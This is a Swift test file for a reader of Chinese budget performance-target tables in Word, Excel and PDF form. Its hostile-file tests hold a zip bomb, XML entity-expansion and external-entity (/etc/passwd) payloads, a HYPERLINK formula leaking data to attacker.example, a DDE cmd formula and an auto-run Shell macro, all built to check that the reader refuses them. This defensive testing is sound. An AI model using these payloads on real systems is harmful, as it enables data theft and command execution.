import Foundation
import JixiaoModel
import JixiaoTestSupport
import Testing

@testable import JixiaoReader

/// Word, Excel and PDF files in, and files that try to hurt the reader.
@Suite struct FileFormatTests {
    @Test(.needsShared, arguments: Shared.seedNames)
    func aWordFileBuiltFromTheAnswerKeyReadsToIt(_ name: String) throws {
        let data = try OfficeFiles.docx(Shared.goldDocument(name))
        let result = try DocumentReader.read(data, name: "\(name).docx")
        #expect(result.format == .docx)
        #expect(result.document.source?.name == "\(name).docx")
        let mismatches = try Shared.readBackMismatches(name, result.document)
        #expect(mismatches == [])
    }

    @Test func wordCellsKeepTheirStructure() throws {
        // A merged 一级 cell (vMerge), a cell spanning two columns (gridSpan), a cell of two paragraphs,
        // a deleted revision, a table nested in a cell, content given twice for older readers (Fallback).
        func cell(_ text: String, _ props: String = "") -> String {
            "<w:tc><w:tcPr>\(props)</w:tcPr>" + text.split(separator: "|").map { OfficeFiles.paragraph(String($0)) }.joined() + "</w:tc>"
        }
        let xml = """
            <w:document xmlns:w="\(OfficeFiles.wordNamespace)"><w:body>
            \(OfficeFiles.paragraph("1.测试项目绩效目标表"))
            \(OfficeFiles.paragraph("100001 测试县测试局本级\t单位：万元"))
            <w:tbl><w:tr>\(cell("项目编码"))\(cell("13999924P000000000001"))\(cell("项目名称"))\(cell("测试项目", #"<w:gridSpan w:val="2"/>"#))</w:tr>
            <w:tr>\(cell("预算数"))\(cell("10.00"))\(cell("其中：财政资金"))\(cell("10.00"))\(cell(""))</w:tr>
            <w:tr>\(cell("年度绩效目标"))\(cell("1.完成测试|2.提高质量", #"<w:gridSpan w:val="4"/>"#))</w:tr>
            <w:tr>\(cell("一级指标"))\(cell("二级指标"))\(cell("三级指标"))\(cell("指标值"))\(cell("指标值确定依据"))</w:tr>
            <w:tr>\(cell("产出指标", #"<w:vMerge w:val="restart"/>"#))\(cell("数量指标"))\(cell("测试次数"))\(cell("≥10 次"))<w:tc><w:p><w:r><w:t>工作</w:t></w:r><w:del><w:r><w:delText>删掉的</w:delText></w:r></w:del><w:r><w:t>计划</w:t></w:r></w:p></w:tc></w:tr>
            <w:tr>\(cell("", "<w:vMerge/>"))\(cell("质量指标"))\(cell("合格率"))\(cell("≥98%"))<w:tc><w:tbl><w:tr>\(cell("抽检"))</w:tr></w:tbl></w:tc></w:tr>
            <w:tr>\(cell("满意度指标"))\(cell("服务对象满意度指标"))\(cell("满意度"))\(cell("≥95%"))<w:tc><w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:t>问卷调查</w:t></mc:Choice><mc:Fallback><w:t>问卷调查</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p></w:tc></w:tr>
            </w:tbl></w:body></w:document>
            """
        let doc = try DocumentReader.read(OfficeFiles.wordPackage(xml)).document
        let p = try #require(doc.projects.first)
        #expect(p.name == "测试项目")
        #expect(p.goals == ["完成测试", "提高质量"])
        #expect(p.indicators.map { $0.level1 } == ["产出指标", "产出指标", "满意度指标"])
        #expect(p.indicators.map { $0.basis } == ["工作计划", "抽检", "问卷调查"])
        #expect(p.indicators[1].target.number == 98)
    }

    /// The common sheet where each row is one indicator, made from a seed's answer key: what the sheet
    /// holds reads back as the key has it.
    @Test(.needsShared, arguments: Shared.seedNames)
    func aSheetWithOneIndicatorPerRowReadsByProject(_ name: String) throws {
        let gold = try Shared.goldDocument(name)
        let unit = gold.projects.first?.moneyUnit.rawValue ?? "万元"
        var rows: [[OfficeFiles.Cell?]] = [[.text("\(gold.department.name)项目绩效目标汇总表")], [nil, nil, .text("金额单位：\(unit)")]]
        rows.append(["单位编码", "单位名称", "项目编码", "项目名称", "预算数", "年度绩效目标", "一级指标", "二级指标", "三级指标", "绩效指标描述", "指标值", "指标值确定依据"].map { .text($0) })
        for p in gold.projects {
            // The project's own cells only on its first row, as merged cells save.
            let head: [OfficeFiles.Cell?] = [
                p.unit.code.map { .text($0) }, p.unit.name.map { .text($0) }, p.code.map { .text($0) }, .text(p.name), p.budget.total.map { .number("\($0)") },
                .text(p.goals.enumerated().map { "\($0.offset + 1).\($0.element)" }.joined(separator: "\n")),
            ]
            if p.indicators.isEmpty { rows.append(head) }
            for (k, i) in p.indicators.enumerated() {
                rows.append(
                    (k == 0 ? head : Array(repeating: nil, count: head.count))
                        + [.text(i.level1), .text(i.level2), .text(i.level3), i.description.map { .text($0) }, .text(i.value), i.basis.map { .text($0) }])
            }
        }
        let doc = try DocumentReader.read(OfficeFiles.xlsx(rows: rows)).document
        #expect(doc.projects.count == gold.projects.count)
        for (p, q) in zip(gold.projects, doc.projects) {
            #expect(q.name == p.name)
            #expect(q.code == p.code)
            #expect(q.unit.name == p.unit.name)
            #expect(q.budget.total == p.budget.total)
            #expect(q.moneyUnit == p.moneyUnit)
            #expect(q.goals == p.goals)
            #expect(q.indicators == p.indicators, "\(p.name)")
        }
    }

    @Test func aSheetWithOperatorValueAndUnitInTheirOwnColumns() throws {
        let rows: [[OfficeFiles.Cell?]] = [
            ["项目名称", "预算数（元）", "一级指标", "二级指标", "指标名称", "指标性质", "指标值", "计量单位", "权重"].map { .text($0) },
            [.text("道路养护"), .number("500000"), .text("产出指标"), .text("数量指标"), .text("养护里程"), .text("≥"), .number("60"), .text("公里"), .number("20")],
            [nil, nil, nil, .text("成本指标"), .text("每公里成本"), .text("≤"), .number("0.5"), .text("万元"), .number("10")],
            [.text("路灯维修"), .number("80000"), .text("满意度指标"), .text("服务对象满意度指标"), .text("群众满意度"), .text("≥"), .number("90"), .text("%"), .number("10")],
        ]
        let doc = try DocumentReader.read(OfficeFiles.xlsx(rows: rows)).document
        #expect(doc.projects.map(\.name) == ["道路养护", "路灯维修"])
        let p = doc.projects[0]
        #expect(p.moneyUnit == .yuan)
        #expect(p.budget.total == 500000)
        #expect(p.indicators.map(\.level2) == ["数量指标", "成本指标"])
        #expect(p.indicators[1].level1 == "产出指标")
        #expect(p.indicators[1].target.op == .atMost)
        #expect(p.indicators[1].target.number == Decimal(string: "0.5"))
        #expect(p.indicators[0].weight == 20)
        #expect(doc.projects[1].indicators[0].target.unit == "%")
    }

    /// An official table laid out in a sheet, read from its cells where they stand: a blank description
    /// or basis keeps the value in its column, and a 一级 merged down over two rows (where the hidden
    /// cell still holds an old text) is the first row's, not read twice.
    @Test func anOfficialTableInASheetReadsByItsColumns() throws {
        let rows: [[OfficeFiles.Cell?]] = [
            [.text("项目名称"), .text("乡村道路养护"), nil, nil, nil, nil],
            [.text("预算数（万元）"), .number("50"), nil, nil, nil, nil],
            [.text("一级指标"), .text("二级指标"), .text("三级指标"), .text("绩效指标描述"), .text("指标值"), .text("指标值确定依据")],
            [.text("产出指标"), .text("数量指标"), .text("养护里程"), nil, .text("≥60 公里"), .text("养护计划")],
            [.text("旧的一级"), .text("质量指标"), .text("路面合格率"), .text("抽检合格的路段占比"), .text("≥95%"), nil],
            [.text("满意度指标"), .text("服务对象满意度指标"), .text("群众满意度"), nil, .text("≥90%"), nil],
        ]
        let doc = try DocumentReader.read(OfficeFiles.xlsx(rows: rows, merges: ["B1:F1", "A4:A5"])).document
        let p = try #require(doc.projects.first)
        #expect(p.name == "乡村道路养护" && p.budget.total == 50)
        #expect(
            p.indicators.map { [$0.level1, $0.level2, $0.level3, $0.description ?? "", $0.value, $0.basis ?? ""] } == [
                ["产出指标", "数量指标", "养护里程", "", "≥60 公里", "养护计划"],
                ["产出指标", "质量指标", "路面合格率", "抽检合格的路段占比", "≥95%", ""],
                ["满意度指标", "服务对象满意度指标", "群众满意度", "", "≥90%", ""],
            ])
    }

    /// A header of two rows (the project columns merged down, 绩效指标 merged across over its parts) and
    /// labels with a note in brackets.
    @Test func aSheetWithATwoRowHeader() throws {
        let rows: [[OfficeFiles.Cell?]] = [
            [.text("2025年项目支出绩效目标申报表")],
            [.text("项目名称"), .text("项目编码"), .text("资金总额（万元）"), .text("绩效指标"), nil, nil, nil],
            [nil, nil, nil, .text("一级指标"), .text("二级指标"), .text("三级指标（指标名称）"), .text("指标值（目标值）")],
            [.text("乡村道路养护"), .text("13999925P000000000009"), .number("50"), .text("产出指标"), .text("数量指标"), .text("养护里程"), .text("≥60 公里")],
            [nil, nil, nil, .text("满意度指标"), .text("服务对象满意度指标"), .text("群众满意度"), .text("≥90%")],
        ]
        let doc = try DocumentReader.read(OfficeFiles.xlsx(rows: rows)).document
        let p = try #require(doc.projects.first)
        #expect(doc.projects.count == 1 && p.name == "乡村道路养护" && p.code == "13999925P000000000009")
        #expect(p.budget.total == 50 && p.moneyUnit == .tenThousandYuan)
        #expect(p.indicators.map { $0.level3 } == ["养护里程", "群众满意度"])
        #expect(p.indicators[0].target.number == 60 && p.indicators[1].target.unit == "%")
        #expect(doc.fiscalYear == 2025)
    }

    // MARK: Hostile files

    static func bigPart(_ bytes: Int, of byte: UInt8 = 0x20) -> Data { Data(repeating: byte, count: bytes) }

    @Test func aZipBombIsStoppedWhileItInflates() throws {
        // 40 MB of spaces deflate to a few tens of kilobytes.
        let bomb = try OfficeFiles.zip([("word/document.xml", Self.bigPart(40 << 20))])
        #expect(bomb.count < 200_000)
        #expect {
            try DocumentReader.read(bomb)
        } throws: { error in
            guard case ReadError.tooLarge(let detail) = error else { return false }
            return detail.contains("word/document.xml")
        }
    }

    @Test func hostileXMLIsRefused() throws {
        let laughs = """
            <?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
            <w:document xmlns:w="\(OfficeFiles.wordNamespace)"><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>
            """
        let external = """
            <?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="\(OfficeFiles.wordNamespace)"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>
            """
        let malformed = "<w:document xmlns:w=\"\(OfficeFiles.wordNamespace)\"><w:body><w:p><w:r><w:t>项目名称</w:r></w:body>"
        let deep =
            "<w:document xmlns:w=\"\(OfficeFiles.wordNamespace)\"><w:body>" + String(repeating: "<w:sdt>", count: 5000)
            + String(repeating: "</w:sdt>", count: 5000) + "</w:body></w:document>"
        for xml in [laughs, external, malformed, deep] {
            #expect {
                try DocumentReader.read(OfficeFiles.wordPackage(xml))
            } throws: { error in
                guard case ReadError.damaged = error else { return false }
                return true
            }
        }
        // Very many elements within the size limit.
        let many =
            "<w:document xmlns:w=\"\(OfficeFiles.wordNamespace)\"><w:body>" + String(repeating: "<w:p/>", count: OfficeXML.maxElements + 10)
            + "</w:body></w:document>"
        #expect(throws: ReadError.self) { try DocumentReader.read(OfficeFiles.wordPackage(many)) }
    }

    @Test func formulasAndMacrosAreNeverRun() throws {
        // The formula's text never reaches the document; its saved result does. The macro part is
        // carried in the file and never opened.
        let rows: [[OfficeFiles.Cell?]] = [
            ["项目名称", "预算数", "一级指标", "二级指标", "三级指标", "指标值"].map { .text($0) },
            [
                .formula(#"HYPERLINK("http://attacker.example/?"&A1,"测试项目")"#, cached: "测试项目"), .formula("SUM(1,2)", cached: "3"),
                .text("产出指标"), .text("数量指标"), .formula("CONCAT(\"测\",\"试\")", cached: "测试次数"), .formula("=cmd|' /C calc'!A0", cached: "≥10次"),
            ],
        ]
        let macro = (path: "xl/vbaProject.bin", data: Data("Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc\"\nEnd Sub".utf8))
        let result = try DocumentReader.read(OfficeFiles.xlsx(rows: rows, extra: [macro]))
        let p = try #require(result.document.projects.first)
        #expect(p.name == "测试项目")
        #expect(p.budget.total == 3)
        #expect(p.indicators.first?.level3 == "测试次数")
        #expect(p.indicators.first?.target.number == 10)
        #expect(!result.text.contains("HYPERLINK") && !result.text.contains("cmd") && !result.text.contains("Shell"))
    }

    @Test(.needsShared) func brokenAndForeignContainersFailClearly() throws {
        let docx = try OfficeFiles.docx(Shared.goldDocument(Shared.seedNames[4]))
        #expect {
            try DocumentReader.read(docx.prefix(docx.count / 2))
        } throws: { error in
            guard case ReadError.damaged = error else { return false }
            return true
        }
        #expect(throws: ReadError.unknownArchive) { try DocumentReader.read(OfficeFiles.zip([("photo.jpg", Data([0xFF, 0xD8, 0xFF]))])) }
        // An OLE file that is no document: refused, whether or not LibreOffice is there to try it.
        #expect {
            try DocumentReader.read(Data([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + Data(count: 512))
        } throws: { error in
            if case ReadError.damaged = error { return true }
            return error as? ReadError == .legacyOffice
        }
        // A .docx without any target table.
        let notice = try OfficeFiles.wordPackage(
            "<w:document xmlns:w=\"\(OfficeFiles.wordNamespace)\"><w:body>\(OfficeFiles.paragraph("会议通知"))</w:body></w:document>")
        #expect(throws: ReadError.noTargetTable) { try DocumentReader.read(notice) }
    }

    @Test func brokenEncryptedAndEmptyPDFsFailClearly() throws {
        #expect {
            try DocumentReader.read(Data("%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage".utf8))
        } throws: { error in
            guard case ReadError.damaged = error else { return false }
            return true
        }
        #expect(throws: ReadError.encrypted) { try DocumentReader.read(PDFSamples.encrypted) }
        #expect(throws: ReadError.noText) { try DocumentReader.read(PDFSamples.blankPage) }
    }
}

/// Small PDFs written by hand: a page with nothing on it, and one encrypted with a user password
/// that is not empty (so nothing can be read without it).
enum PDFSamples {
    static let pages = """
        %PDF-1.4
        1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
        2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
        3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj

        """
    static let blankPage = Data((pages + "trailer<</Root 1 0 R>>\n%%EOF\n").utf8)
    static let encrypted = Data(
        (pages + """
            4 0 obj<</Filter/Standard/V 1/R 2/O<0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef>/U<fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210>/P -4>>endobj
            trailer<</Root 1 0 R/Encrypt 4 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]>>
            %%EOF

            """).utf8)
}
